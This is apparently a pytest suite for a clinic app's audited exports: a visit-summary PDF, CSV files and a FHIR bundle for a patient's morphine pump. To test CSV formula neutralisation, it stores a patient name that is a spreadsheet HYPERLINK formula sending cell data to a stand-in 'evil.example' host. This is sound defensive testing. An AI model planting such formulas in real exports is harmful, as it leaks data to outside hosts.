"""The reports in the app: the visit summary PDF, CSV exports and the FHIR R4B export, each audited.

One clinic (SQLite) with one running pump serves the module: the exports only
read the pump (an interrogation and its event log), so the tests share it; the
one test that programs the pump comes last.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from pypdf import PdfReader
from tests.clinic.clinic_web_rig import TOKEN, WebClinic, web_clinic

from thecal.apps.clinic.reports.fhir import check_codes, validate_bundle
from thecal.apps.clinic.web.exports import CSV_ACTION, FHIR_ACTION, PDF_ACTION

SERIAL = "NGP-REP-1"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def clinic(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebClinic]:
    """A clinic with a patient whose pump (morphine 10 mg/mL, 1 mg/day, PTM on) runs, and a patient with no pump."""
    root: Path = tmp_path_factory.mktemp("reports")
    with web_clinic(f"sqlite:///{root / 'clinic.db'}", root) as clinic:
        patient = clinic.add_patient("MRN-R-0001", "Okoye", serial=SERIAL)
        clinic.add_patient("MRN-R-0002", HOSTILE_NAME, serial=None)
        clinic.add_patient("MRN-R-0003", "Quiet", serial="NGP-REP-OFF")  # an implant whose pump is not running
        clinic.start_pump(SERIAL, ptm=True)
        nurse = clinic.users["nurse"]
        implant = clinic.store.implant_by_serial(SERIAL)
        assert implant is not None
        clinic.store.record_fill(
            implant.id,
            at=clinic.store.audit_trail()[-1].at,
            drugs=(("morphine", 10.0),),
            volume_ml=18.0,
            aspirated_ml=None,
            expected_ml=None,
            discrepancy_acknowledged=False,
            by=nurse,
        )
        for score in (7, 4):
            clinic.store.add_pain_score(
                patient.id, at=clinic.store.audit_trail()[0].at, score=score, source="clinic", by=nurse
            )
        yield clinic


def pdf_text(content: bytes) -> str:
    """The text of every page of a PDF, blanks and line breaks collapsed (table cells wrap)."""
    return re.sub(r"\s+", " ", " ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages))


def _pid(clinic: WebClinic, mrn: str) -> int:
    return clinic.patients[mrn].id


def _audited(clinic: WebClinic, action: str) -> list[object]:
    return [e for e in clinic.store.audit_trail(limit=1000) if e.action == action]


def test_the_patient_page_offers_the_reports_and_the_dashboard_the_csv(clinic: WebClinic) -> None:
    """The links a person clicks: visit summary, FHIR export, CSV of fills and pain scores, CSV of the patients."""
    viewer = clinic.client("viewer")
    page = viewer.get(f"/patients/{_pid(clinic, 'MRN-R-0001')}").text
    for words in ("Visit summary (PDF)", "FHIR export (JSON)", "Export CSV: fills", "Export CSV: pain scores"):
        assert words in page
    assert "Export CSV: these patients" in viewer.get("/").text


def test_the_visit_summary_is_a_pdf_holding_the_patient_and_the_pump_read_for_it(clinic: WebClinic) -> None:
    """A viewer downloads the PDF: its type and name, the MRN and the pump's settings in its text; audited."""
    viewer = clinic.client("viewer")
    before = len(_audited(clinic, PDF_ACTION))
    response = viewer.get(f"/patients/{_pid(clinic, 'MRN-R-0001')}/visit-summary.pdf")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/pdf"
    assert re.fullmatch(
        r'attachment; filename="visit-summary-MRN-R-0001-\d{4}-\d\d-\d\d\.pdf"', response.headers["content-disposition"]
    )
    assert response.content.startswith(b"%PDF")
    text = pdf_text(response.content)
    assert "MRN-R-0001" in text and "OKOYE, Sam" in text
    assert "1 mg/day (0.1 mL/day)" in text  # the basal dose the pump holds, as a dose and a volume
    assert "0.1 mg of morphine" in text  # the handset's dose
    assert "priming" in text.lower()  # the event log excerpt
    entries = _audited(clinic, PDF_ACTION)
    assert len(entries) == before + 1
    entry = entries[0]
    assert entry.username == "vchen" and entry.pump_serial == SERIAL  # type: ignore[attr-defined]
    assert f"pump {SERIAL} read for this report" in entry.detail  # type: ignore[attr-defined]


def test_a_pump_that_cannot_be_reached_still_gives_a_summary_from_the_record(clinic: WebClinic) -> None:
    """The pump's daemon is not running: the PDF is made from the store, and the audit says the pump was not read."""
    nurse = clinic.client("nurse")
    response = nurse.get(f"/patients/{_pid(clinic, 'MRN-R-0003')}/visit-summary.pdf")
    assert response.status_code == 200 and response.content.startswith(b"%PDF")
    text = pdf_text(response.content)
    assert "MRN-R-0003" in text and "its daemon is not running" in text
    assert "pump NGP-REP-OFF not reached" in _audited(clinic, PDF_ACTION)[0].detail  # type: ignore[attr-defined]


def test_the_fhir_export_validates_and_its_codes_check(clinic: WebClinic) -> None:
    """The page's download and the API route give the same R4B bundle; fhir.resources and check_codes accept it."""
    viewer = clinic.client("viewer")
    patient_id = _pid(clinic, "MRN-R-0001")
    before = len(_audited(clinic, FHIR_ACTION))
    page = viewer.get(f"/patients/{patient_id}/fhir.json")
    assert page.status_code == 200 and page.headers["content-type"] == "application/fhir+json"
    assert re.fullmatch(
        r'attachment; filename="fhir-MRN-R-0001-\d{4}-\d\d-\d\d\.json"', page.headers["content-disposition"]
    )
    api = viewer.http.get(f"/api/patients/{patient_id}/fhir")
    assert api.status_code == 200 and api.headers["content-type"] == "application/fhir+json"
    for bundle in (page.json(), api.json()):
        validate_bundle(bundle)
        assert check_codes(bundle) == []
        kinds = [e["resource"]["resourceType"] for e in bundle["entry"]]
        assert {
            "Patient",
            "Device",
            "MedicationRequest",
            "MedicationAdministration",
            "Procedure",
            "Observation",
        } <= set(kinds)
        patient = bundle["entry"][0]["resource"]
        assert patient["identifier"][0]["value"] == "MRN-R-0001"
        device = next(e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "Device")
        assert SERIAL in str(device)
        request = next(e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "MedicationRequest")
        rate = request["dosageInstruction"][0]["doseAndRate"][0]["rateQuantity"]
        assert rate["value"] == 1 and rate["code"] == "mg/d"  # the dose the pump holds, read for the export
        pain = [
            e["resource"]["valueInteger"] for e in bundle["entry"] if e["resource"]["resourceType"] == "Observation"
        ]
        assert sorted(pain) == [4, 7]
    assert len(_audited(clinic, FHIR_ACTION)) == before + 2
    assert viewer.http.get("/api/patients/999999/fhir").status_code == 404


def test_csv_exports_neutralise_formulas_end_to_end(clinic: WebClinic) -> None:
    """A patient named like a spreadsheet formula, and a pain-score note like one, come out as text; audited."""
    nurse = clinic.client("nurse")
    patient_id = _pid(clinic, "MRN-R-0001")
    nurse.get(f"/patients/{patient_id}")
    assert nurse.post(f"/patients/{patient_id}/pain-scores", {"score": "3", "note": "=1+2"}).status_code == 200
    before = len(_audited(clinic, CSV_ACTION))
    listed = nurse.get("/patients.csv")
    assert listed.status_code == 200 and listed.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="patients-\d{4}-\d\d-\d\d\.csv"', listed.headers["content-disposition"])
    rows = list(csv.DictReader(io.StringIO(listed.text)))
    assert {r["mrn"] for r in rows} == {"MRN-R-0001", "MRN-R-0002", "MRN-R-0003"}
    hostile = next(r for r in rows if r["mrn"] == "MRN-R-0002")
    assert hostile["family_name"] == "'" + HOSTILE_NAME  # kept whole, shown as text, never run as a formula
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    searched = list(csv.DictReader(io.StringIO(nurse.get("/patients.csv", params={"q": "Okoye"}).text)))
    assert [r["mrn"] for r in searched] == ["MRN-R-0001"]
    scores = nurse.get(f"/patients/{patient_id}/pain-scores.csv")
    assert scores.headers["content-type"] == "text/csv; charset=utf-8"
    score_rows = list(csv.DictReader(io.StringIO(scores.text)))
    assert [r["score_0_to_10"] for r in score_rows] == ["7", "4", "3"]
    assert score_rows[-1]["note"] == "'=1+2"
    fills = list(csv.DictReader(io.StringIO(nurse.get(f"/patients/{patient_id}/fills.csv").text)))
    assert (
        fills[0]["pump_serial"] == SERIAL
        and fills[0]["drug_1"] == "morphine"
        and fills[0]["drug_1_amount_mg"] == "180.0"
    )
    entries = _audited(clinic, CSV_ACTION)
    assert len(entries) == before + 4
    assert entries[-before - 1].detail == "patients list (CSV): 3 patients"  # type: ignore[attr-defined]


def test_only_signed_in_readers_may_export(clinic: WebClinic) -> None:
    """A signed-out visitor is sent to sign in (pages) or refused 401 (API); an admin is refused; nothing audited."""
    patient_id = _pid(clinic, "MRN-R-0001")
    urls = [
        "/patients.csv",
        f"/patients/{patient_id}/visit-summary.pdf",
        f"/patients/{patient_id}/fhir.json",
        f"/patients/{patient_id}/fills.csv",
        f"/patients/{patient_id}/pain-scores.csv",
    ]
    exported = sum(len(_audited(clinic, a)) for a in (PDF_ACTION, CSV_ACTION, FHIR_ACTION))
    outside = clinic.client()
    for url in urls:
        response = outside.http.get(url, follow_redirects=False)
        assert response.status_code == 303 and response.headers["location"].startswith("/login"), url
    assert outside.http.get(f"/api/patients/{patient_id}/fhir").status_code == 401
    admin = clinic.client("admin")
    for url in urls:
        refused = admin.get(url)
        assert refused.status_code == 403 and "Only a physician or a nurse or a viewer may export" in refused.text, url
    assert admin.http.get(f"/api/patients/{patient_id}/fhir").status_code == 403
    assert sum(len(_audited(clinic, a)) for a in (PDF_ACTION, CSV_ACTION, FHIR_ACTION)) == exported


def test_the_summary_shows_the_settings_a_programming_session_changed(clinic: WebClinic) -> None:
    """After a prescription change, the PDF marks the basal dose CHANGED, 1 mg/day before and 1.1 mg/day after."""
    nurse = clinic.client("nurse")
    finish = nurse.post(f"/pumps/{SERIAL}/workflow/prescribe", {"mode": "continuous", "dose": "1.1 mg/day"})
    token = TOKEN.search(finish.text).group(1)  # type: ignore[union-attr]
    assert "Done and verified." in nurse.post(f"/plans/{token}/send", {"confirm": "send"}).text
    pdf = nurse.get(f"/patients/{_pid(clinic, 'MRN-R-0001')}/visit-summary.pdf")
    text = pdf_text(pdf.content)
    assert "1 of 5 settings changed" in text and "CHANGED" in text
    assert "1.1 mg/day (0.11 mL/day)" in text and "mg/day (mL/day)" in text
